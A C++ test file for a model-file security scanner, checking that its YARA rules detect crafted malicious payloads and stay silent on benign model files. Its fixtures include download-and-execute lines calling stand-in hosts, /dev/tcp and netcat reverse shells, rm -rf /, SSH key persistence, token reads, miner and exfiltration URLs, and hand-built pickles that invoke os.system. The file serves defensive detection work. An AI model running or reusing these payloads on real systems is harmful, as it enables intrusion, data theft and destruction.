// The shipped default rule set (scanner/rules/*.yar): it is embedded
// exactly, compiles without warnings, fires on crafted payloads in the
// scopes it is meant for, and stays silent on real benign model files.
#include <catch2/catch.hpp>

#include <zlib.h>

#include <map>
#include <set>

#include "npy.h"
#include "yara_precompiled.h"
#include "yara_test_util.h"
#include "zip.h"

namespace core = modelgate::core;
using namespace yara_test;

namespace {

const sc::YaraRules& Default() {
  static const sc::YaraRules rules = [] {
    auto r = sc::YaraRules::CompileDefault();
    if (!r.ok()) FAIL("default rules do not compile: " << r.error().message);
    return std::move(r).value();
  }();
  return rules;
}

std::vector<sc::Finding> ScanDefault(std::string_view bytes, std::string_view scope,
                                     uint64_t base = 0) {
  std::vector<sc::Finding> out;
  CHECK(Default().Scan(Bytes(bytes), scope, &out, base));
  return out;
}

std::string U64Le(uint64_t v) {
  std::string s;
  for (int i = 0; i < 8; ++i) s += static_cast<char>((v >> (8 * i)) & 0xff);
  return s;
}

std::string Base64(std::string_view in) {
  static const char* t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    const uint32_t v = (uint32_t(uint8_t(in[i])) << 16) | (uint32_t(uint8_t(in[i + 1])) << 8) |
                       uint8_t(in[i + 2]);
    out += {t[v >> 18], t[(v >> 12) & 63], t[(v >> 6) & 63], t[v & 63]};
  }
  if (i + 1 == in.size()) {
    const uint32_t v = uint32_t(uint8_t(in[i])) << 16;
    out += {t[v >> 18], t[(v >> 12) & 63], '=', '='};
  } else if (i + 2 == in.size()) {
    const uint32_t v = (uint32_t(uint8_t(in[i])) << 16) | (uint32_t(uint8_t(in[i + 1])) << 8);
    out += {t[v >> 18], t[(v >> 12) & 63], t[(v >> 6) & 63], '='};
  }
  return out;
}

// Pickles written opcode by opcode (never produced by, or fed to, Python).
// Protocol 2: os.system("whoami") through GLOBAL + REDUCE.
const std::string kPickleOsSystem = std::string("\x80\x02", 2) + "cos\nsystem\n" +
                                    std::string("q\x00", 2) +
                                    std::string("X\x06\x00\x00\x00", 5) + "whoami" +
                                    "q\x01\x85q\x02Rq\x03.";
// Protocol 4: posix.system("id") through SHORT_BINUNICODE, MEMOIZE and
// STACK_GLOBAL inside a FRAME.
std::string PickleStackGlobal() {
  const std::string body = std::string("\x8c\x05posix\x94\x8c\x06system\x94\x93\x94") +
                           "\x8c\x02id\x94\x85\x94R\x94.";
  return std::string("\x80\x04\x95", 3) + U64Le(body.size()) + body;
}
// Protocol 2: exec(zlib.decompress(b"...")), the injected-payload layout.
const std::string kPickleExecZlib = std::string("\x80\x02", 2) + "c__builtin__\nexec\n(czlib\ndecompress\n(C\x04xxxxtRtR.";

std::string SafetensorsHeader(std::string_view metadata_json) {
  return std::string("{\"__metadata__\":") + std::string(metadata_json) +
         ",\"t\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}";
}

struct Positive {
  std::string rule_id;
  std::string scope;
  std::string bytes;
};

std::vector<Positive> Positives() {
  const std::string elf = std::string("\x7f" "ELF\x02\x01\x01\x00", 8) + std::string(8, '\0') +
                          std::string("\x02\x00\x3e\x00\x01\x00\x00\x00", 8);
  const std::string pe = std::string("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", 16) +
                         std::string(48, '\0');
  const std::string macho = std::string("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00", 16);
  const std::string zip = std::string("PK\x03\x04\x14\x00\x00\x00\x08\x00", 10) + "payload";
  return {
      {"MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE", "header", SafetensorsHeader(R"({"note":"curl http://evil/x | sh"})")},
      {"MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE", "metadata", "note\twget -qO- https://evil.example/i.sh | sudo bash\n"},
      {"MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE", "pickle", "sh -c \"$(curl -fsSL https://x.example/a)\""},
      {"MG-YARA-SHELL-COMMAND-INVOCATION", "metadata", "cmd\tpowershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n"},
      {"MG-YARA-SHELL-COMMAND-INVOCATION", "pickle", "bash -c id"},
      {"MG-YARA-SHELL-COMMAND-INVOCATION", "header", "{\"x\":\"/bin/sh\"}"},
      {"MG-YARA-REVERSE-SHELL", "pickle", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
      {"MG-YARA-REVERSE-SHELL", "member", "nc -e /bin/sh 10.0.0.1 4444"},
      {"MG-YARA-REVERSE-SHELL", "pickle", "import pty;pty.spawn('/bin/sh')"},
      {"MG-YARA-DESTRUCTIVE-COMMAND", "pickle", "rm -rf / --no-preserve-root"},
      {"MG-YARA-DESTRUCTIVE-COMMAND", "metadata", "x\tshutil.rmtree(p)\n"},
      {"MG-YARA-PERSISTENCE-OR-CREDENTIAL-ACCESS", "pickle", "echo k >> ~/.ssh/authorized_keys"},
      {"MG-YARA-PERSISTENCE-OR-CREDENTIAL-ACCESS", "metadata", "x\tos.environ['HF_TOKEN']\n"},
      {"MG-YARA-CRYPTOMINER", "member", "-o stratum+tcp://pool.example.org:3333 -u w"},
      {"MG-YARA-URL-TO-RAW-IP-OR-EXFIL-HOST", "metadata", "src\thttp://203.0.113.9:8080/x\n"},
      {"MG-YARA-URL-TO-RAW-IP-OR-EXFIL-HOST", "pickle", "https://discord.com/api/webhooks/1/abc"},
      {"MG-YARA-URL-TO-RAW-IP-OR-EXFIL-HOST", "member", "https://abcd-1-2.ngrok-free.app/p"},
      {"MG-YARA-URL-IN-METADATA", "metadata", "license\thttps://example.org/license\n"},
      {"MG-YARA-PYTHON-OS-COMMAND", "pickle", "os.system('id')"},
      {"MG-YARA-PYTHON-OS-COMMAND", "member", "subprocess.Popen(['id'])"},
      {"MG-YARA-PYTHON-EXEC-EVAL", "metadata", "x\texec(code)\n"},
      {"MG-YARA-PYTHON-OBFUSCATED-EXEC", "pickle", "exec(base64.b64decode('aW1wb3J0IG9z'))"},
      {"MG-YARA-PYTHON-OBFUSCATED-EXEC", "member", "eval(__import__('zlib').decompress(b))"},
      {"MG-YARA-PYTHON-DYNAMIC-IMPORT-OR-DUNDER", "metadata", "x\tdef __reduce__(self):\n"},
      {"MG-YARA-PYTHON-DYNAMIC-IMPORT-OR-DUNDER", "pickle", "().__class__.__bases__[0].__subclasses__()"},
      {"MG-YARA-PYTHON-NETWORK-CODE", "pickle", "s=socket.socket(2,1);s.connect(('h',1))"},
      {"MG-YARA-PYTHON-NATIVE-CODE", "metadata", "x\tctypes.CDLL('libc.so.6')\n"},
      {"MG-YARA-PYTHON-IMPORT-SENSITIVE-MODULE", "header", "{\"x\":\"import subprocess\"}"},
      {"MG-YARA-BASE64-ENCODED-PAYLOAD", "metadata", "x\t" + Base64("import os; os.system('id')") + "\n"},
      {"MG-YARA-BASE64-ENCODED-PAYLOAD", "pickle", "x" + Base64("__import__('os')")},
      {"MG-YARA-PICKLE-IN-HEADER-OR-MEMBER", "header", "{\"x\":\"" + PickleStackGlobal() + "\"}"},
      {"MG-YARA-PICKLE-IN-HEADER-OR-MEMBER", "member", "junk" + kPickleOsSystem},
      {"MG-YARA-PICKLE-CODE-EXECUTION-GLOBAL", "pickle", kPickleOsSystem},
      {"MG-YARA-PICKLE-CODE-EXECUTION-GLOBAL", "pickle", PickleStackGlobal()},
      {"MG-YARA-PICKLE-EXEC-OF-DECODED-BLOB", "pickle", kPickleExecZlib},
      {"MG-YARA-BASE64-ENCODED-PICKLE", "metadata", "blob\t" + Base64(PickleStackGlobal()) + "\n"},
      {"MG-YARA-BASE64-ENCODED-PICKLE", "metadata", Base64(kPickleOsSystem)},
      {"MG-YARA-EMBEDDED-ELF-EXECUTABLE", "member", "head" + elf},
      {"MG-YARA-EMBEDDED-ELF-EXECUTABLE", "pickle", "B" + elf},
      {"MG-YARA-EMBEDDED-PE-EXECUTABLE", "member", pe},
      {"MG-YARA-EMBEDDED-PE-EXECUTABLE", "header", "This program cannot be run in DOS mode"},
      {"MG-YARA-EMBEDDED-MACHO-EXECUTABLE", "member", macho},
      {"MG-YARA-EMBEDDED-ZIP-ARCHIVE", "member", "abc" + zip},
      {"MG-YARA-BASE64-ENCODED-EXECUTABLE-OR-ARCHIVE", "metadata", "x\t" + Base64(elf) + "\n"},
      {"MG-YARA-BASE64-ENCODED-EXECUTABLE-OR-ARCHIVE", "pickle", Base64(zip)},
      {"MG-YARA-SCRIPT-IN-HEADER", "metadata", "x\t#!/usr/bin/env python3\n"},
  };
}

// RuleNames lists the public rules declared in the shipped sources.
std::set<std::string> RuleIds() {
  std::set<std::string> ids;
  for (const auto& s : sc::YaraRules::DefaultSources()) {
    size_t p = 0;
    while ((p = s.text.find("\nrule ", p)) != std::string::npos) {
      p += 6;
      size_t e = s.text.find_first_of(" \n{", p);
      ids.insert(sc::YaraFindingId(s.text.substr(p, e - p)));
    }
  }
  return ids;
}

}  // namespace

TEST_CASE("default rules: the embedded copy is scanner/rules/*.yar, byte for byte", "[yara][default]") {
  std::map<std::string, std::string> on_disk;
  for (const auto& e : fs::directory_iterator(SourcePath("scanner/rules"))) {
    if (e.path().extension() != ".yar") continue;
    auto b = ReadFile(e.path().string());
    on_disk["rules/" + e.path().filename().string()] = std::string(b.begin(), b.end());
  }
  std::map<std::string, std::string> embedded;
  for (const auto& s : sc::YaraRules::DefaultSources()) embedded[s.name] = s.text;
  CHECK(embedded.size() >= 3);
  CHECK(embedded == on_disk);
}

TEST_CASE("default rules: compile without warnings, every rule has meta", "[yara][default]") {
  const auto& rules = Default();
  CHECK(rules.warnings().empty());
  for (const auto& w : rules.warnings()) UNSCOPED_INFO(w);
  CHECK(rules.rule_count() == RuleIds().size());
  for (const auto& s : sc::YaraRules::DefaultSources()) {
    size_t rules_in_file = 0, descriptions = 0, severities = 0;
    for (size_t p = 0; (p = s.text.find("\nrule ", p)) != std::string::npos; ++p) ++rules_in_file;
    for (size_t p = 0; (p = s.text.find("description = \"", p)) != std::string::npos; ++p) ++descriptions;
    for (size_t p = 0; (p = s.text.find("severity = \"", p)) != std::string::npos; ++p) ++severities;
    INFO(s.name);
    CHECK(rules_in_file > 0);
    CHECK(descriptions == rules_in_file);
    CHECK(severities == rules_in_file);
  }
}

TEST_CASE("default rules: fire on crafted payloads", "[yara][default]") {
  std::set<std::string> covered;
  for (const auto& p : Positives()) {
    auto out = ScanDefault(p.bytes, p.scope);
    INFO(p.rule_id << " in " << p.scope << " on " << core::Quoted(p.bytes) << "\n" << Describe(out));
    const sc::Finding* f = Find(out, p.rule_id);
    CHECK(f != nullptr);
    if (f != nullptr) {
      CHECK(f->message.find(", in " + p.scope) != std::string::npos);
      covered.insert(p.rule_id);
    }
  }
  // Every shipped rule has at least one crafted positive.
  for (const auto& id : RuleIds()) {
    INFO(id);
    CHECK(covered.count(id) == 1);
  }
}

TEST_CASE("default rules: ids, severity and offset of a shell pipe in a header", "[yara][default]") {
  const std::string header = SafetensorsHeader(R"({"note":"curl http://evil/x | sh"})");
  auto out = ScanDefault(header, "header", 8);
  INFO(Describe(out));
  const sc::Finding* f = Find(out, "MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE");
  REQUIRE(f != nullptr);
  CHECK(f->severity == core::Severity::kCritical);
  CHECK(f->offset == 8 + header.find("curl"));
  CHECK(f->message.find("yara rule shell_download_and_execute, in header") != std::string::npos);
  const sc::Finding* url = Find(out, "MG-YARA-URL-IN-METADATA");
  REQUIRE(url != nullptr);
  CHECK(url->severity == core::Severity::kLow);
  CHECK(url->offset == 8 + header.find("http://"));
}

TEST_CASE("default rules: the pickle rules point at the importing opcode", "[yara][default]") {
  auto out = ScanDefault(kPickleOsSystem, "pickle", 100);
  const sc::Finding* f = Find(out, "MG-YARA-PICKLE-CODE-EXECUTION-GLOBAL");
  REQUIRE(f != nullptr);
  CHECK(f->severity == core::Severity::kCritical);
  CHECK(f->offset == 102);  // the GLOBAL opcode after PROTO 2
  out = ScanDefault(PickleStackGlobal(), "pickle");
  f = Find(out, "MG-YARA-PICKLE-CODE-EXECUTION-GLOBAL");
  REQUIRE(f != nullptr);
  CHECK(f->offset == 11);  // the first SHORT_BINUNICODE after PROTO + FRAME
  // A pickle stream is expected in scope "pickle": not reported as hidden.
  CHECK(Find(out, "MG-YARA-PICKLE-IN-HEADER-OR-MEMBER") == nullptr);
  CHECK(Find(ScanDefault(PickleStackGlobal(), "member"), "MG-YARA-PICKLE-IN-HEADER-OR-MEMBER") != nullptr);
}

TEST_CASE("default rules: scope limits keep prose and tensor data quiet", "[yara][default]") {
  // A URL or /bin/sh in a member is ordinary text; in metadata it is reported.
  CHECK(ScanDefault("see https://example.org and /bin/sh", "member").empty());
  CHECK(ScanDefault("import os", "member").empty());
  CHECK(ScanDefault("exec(code)", "member").empty());
  // Opcode-pattern rules never run on tensor data.
  CHECK(Find(ScanDefault(kPickleOsSystem, "data"), "MG-YARA-PICKLE-CODE-EXECUTION-GLOBAL") == nullptr);
}

// ---- benign files ----------------------------------------------------------------

namespace {

// ScanBenign runs the default rules the way the scanner is meant to:
// pickles as "pickle", npy headers as "header", other archive members as
// "member", tensor bytes as "data" (stricter than the default, which never
// scans tensor data), and returns everything found.
void ScanBenign(std::span<const uint8_t> bytes, const std::string& name, int depth,
                std::vector<sc::Finding>* out);

void ScanZip(std::span<const uint8_t> bytes, const std::string& name, int depth,
             std::vector<sc::Finding>* out) {
  sc::MemorySource src(bytes);
  std::vector<sc::Finding> zf;
  auto z = sc::ReadZip(src, sc::ZipLimits{}, &zf);
  REQUIRE(z.ok());
  REQUIRE(z.value().directory_ok);
  for (const auto& e : z.value().entries) {
    auto m = sc::ExtractZipMember(src, e, 1 << 20, &zf);
    REQUIRE(m.ok());
    REQUIRE(m.value().has_value());
    const std::vector<uint8_t>& member = *m.value();
    const bool storage = e.name.find("/data/") != std::string::npos &&
                         e.name.find(".pkl") == std::string::npos;
    if (storage) {
      Default().Scan(member, "data", out);
    } else {
      ScanBenign(member, name + "!" + e.name, depth + 1, out);
    }
  }
}

void ScanBenign(std::span<const uint8_t> bytes, const std::string& name, int depth,
                std::vector<sc::Finding>* out) {
  REQUIRE(depth < 4);
  const size_t before = out->size();
  if (bytes.size() >= 4 && bytes[0] == 'P' && bytes[1] == 'K' && bytes[2] == 3 && bytes[3] == 4) {
    ScanZip(bytes, name, depth, out);
  } else if (bytes.size() >= 2 && bytes[0] == 0x80 && bytes[1] <= 5) {
    Default().Scan(bytes, "pickle", out);
  } else if (bytes.size() >= 6 && std::equal(sc::kNpyMagic.begin(), sc::kNpyMagic.end(), bytes.begin(),
                                              [](char m, uint8_t b) { return static_cast<uint8_t>(m) == b; })) {
    std::vector<sc::Finding> nf;
    auto h = sc::ParseNpyHeader(bytes, 0, sc::NpyLimits{}, &nf);
    REQUIRE(h.has_value());
    const size_t body = static_cast<size_t>(h->data_offset);
    Default().Scan(bytes.first(body), "header", out);
    Default().Scan(bytes.subspan(body), h->has_object ? "pickle" : "data", out);
  } else if (bytes.size() >= 2 && bytes[0] == 0x78) {  // zlib (joblib compress=3)
    std::vector<uint8_t> inflated(1 << 16);
    uLongf n = static_cast<uLongf>(inflated.size());
    REQUIRE(uncompress(inflated.data(), &n, bytes.data(), static_cast<uLong>(bytes.size())) == Z_OK);
    inflated.resize(n);
    ScanBenign(inflated, name + "!<zlib>", depth + 1, out);
  } else {
    Default().Scan(bytes, "member", out);
  }
  for (size_t i = before; i < out->size(); ++i) (*out)[i].member = name;
}

}  // namespace

TEST_CASE("default rules: silent on the real benign model files", "[yara][default][benign]") {
  // Every file in tests/fixtures/real/ (torch zip and legacy, numpy, npz,
  // joblib, ...): real outputs of torch.save / np.save / joblib.dump.
  std::vector<std::string> files;
  for (const auto& e : fs::directory_iterator(SourcePath("tests/fixtures/real"))) {
    if (e.is_regular_file()) files.push_back(e.path().string());
  }
  std::sort(files.begin(), files.end());
  CHECK(files.size() >= 9);
  for (const auto& f : files) {
    const auto bytes = ReadFile(f);
    REQUIRE(!bytes.empty());
    std::vector<sc::Finding> out;
    ScanBenign(bytes, f, 0, &out);
    INFO(f << "\n" << Describe(out));
    CHECK(out.empty());
  }
}

TEST_CASE("default rules: torch data.pkl is silent as a pickle and as a member", "[yara][default][benign]") {
  const auto bytes = ReadFile(SourcePath("tests/fixtures/real/torch-state-dict.pt"));
  sc::MemorySource src(bytes);
  std::vector<sc::Finding> zf;
  auto z = sc::ReadZip(src, sc::ZipLimits{}, &zf);
  REQUIRE(z.ok());
  bool found = false;
  for (const auto& e : z.value().entries) {
    if (e.name.size() < 9 || e.name.substr(e.name.size() - 9) != "/data.pkl") continue;
    auto m = sc::ExtractZipMember(src, e, 1 << 20, &zf);
    REQUIRE(m.ok());
    REQUIRE(m.value().has_value());
    found = true;
    for (const char* scope : {"pickle", "member", "header", "metadata"}) {
      std::vector<sc::Finding> out;
      CHECK(Default().Scan(*m.value(), scope, &out));
      INFO(scope << "\n" << Describe(out));
      // In a header or member a pickle *is* the finding; nothing else fires.
      for (const auto& x : out) CHECK(x.id == "MG-YARA-PICKLE-IN-HEADER-OR-MEMBER");
      if (std::string_view(scope) == "pickle") CHECK(out.empty());
    }
  }
  CHECK(found);
}

TEST_CASE("default rules: silent on examples/good.safetensors' header and metadata", "[yara][default][benign]") {
  // The README's demo file (moved to examples/models/ alongside the
  // example programs).
  std::string path = SourcePath("examples/models/good.safetensors");
  if (!fs::exists(path)) path = SourcePath("examples/good.safetensors");
  const auto bytes = ReadFile(path);
  REQUIRE(bytes.size() > 8);
  auto st = core::ParseSafetensors(bytes, core::Limits{});
  REQUIRE(st.ok());
  const auto header = std::span<const uint8_t>(bytes).subspan(8, static_cast<size_t>(st.value().header_bytes));
  std::vector<sc::Finding> out;
  CHECK(Default().Scan(header, "header", &out, 8));
  std::string metadata;
  for (const auto& [k, v] : st.value().metadata) metadata += k + "\t" + v + "\n";
  CHECK(Default().Scan(Bytes(metadata), "metadata", &out));
  INFO(Describe(out));
  CHECK(out.empty());
}

TEST_CASE("default rules: typical benign metadata only gets the low URL note", "[yara][default][benign]") {
  const std::string lora =
      "format\tpt\n"
      "modelspec.architecture\tstable-diffusion-xl-v1-base/lora\n"
      "modelspec.license\thttps://huggingface.co/stabilityai/stable-diffusion-xl-base-1.0/blob/main/LICENSE.md\n"
      "ss_network_module\tnetworks.lora\n"
      "ss_training_comment\ttrained for 10 epochs; evaluate() with model.eval() first\n"
      "ss_tag_frequency\t{\"img\": {\"1girl\": 12, \"solo\": 9}}\n"
      "ss_sd_model_name\tsd_xl_base_1.0.safetensors\n"
      "description\tA LoRA; see the model card. Trained on /data/images with bash scripts.\n";
  auto out = ScanDefault(lora, "metadata");
  INFO(Describe(out));
  CHECK(Ids(out) == std::vector<std::string>{"MG-YARA-URL-IN-METADATA"});
  const std::string header = SafetensorsHeader(R"({"format":"pt"})");
  CHECK(ScanDefault(header, "header", 8).empty());
}

TEST_CASE("the precompiled shipped rules are the shipped rules", "[yara][default]") {
  auto loaded = modelgate::scanner::YaraRules::Deserialize(modelgate::scanner::DefaultCompiledRules());
  REQUIRE(loaded.ok());
  auto compiled = modelgate::scanner::YaraRules::CompileDefault();
  REQUIRE(compiled.ok());
  CHECK(loaded.value().rule_count() == compiled.value().rule_count());
  CHECK(loaded.value().rule_count() > 0);
  const std::string payload = "x curl http://evil.example/x | sh";
  std::vector<modelgate::scanner::Finding> a, b;
  loaded.value().Scan({reinterpret_cast<const uint8_t*>(payload.data()), payload.size()}, "metadata", &a);
  compiled.value().Scan({reinterpret_cast<const uint8_t*>(payload.data()), payload.size()}, "metadata", &b);
  REQUIRE_FALSE(a.empty());
  REQUIRE(a.size() == b.size());
  for (size_t i = 0; i < a.size(); ++i) CHECK(a[i].id == b[i].id);
  std::vector<uint8_t> garbage = {1, 2, 3};
  CHECK_FALSE(modelgate::scanner::YaraRules::Deserialize(garbage).ok());
}
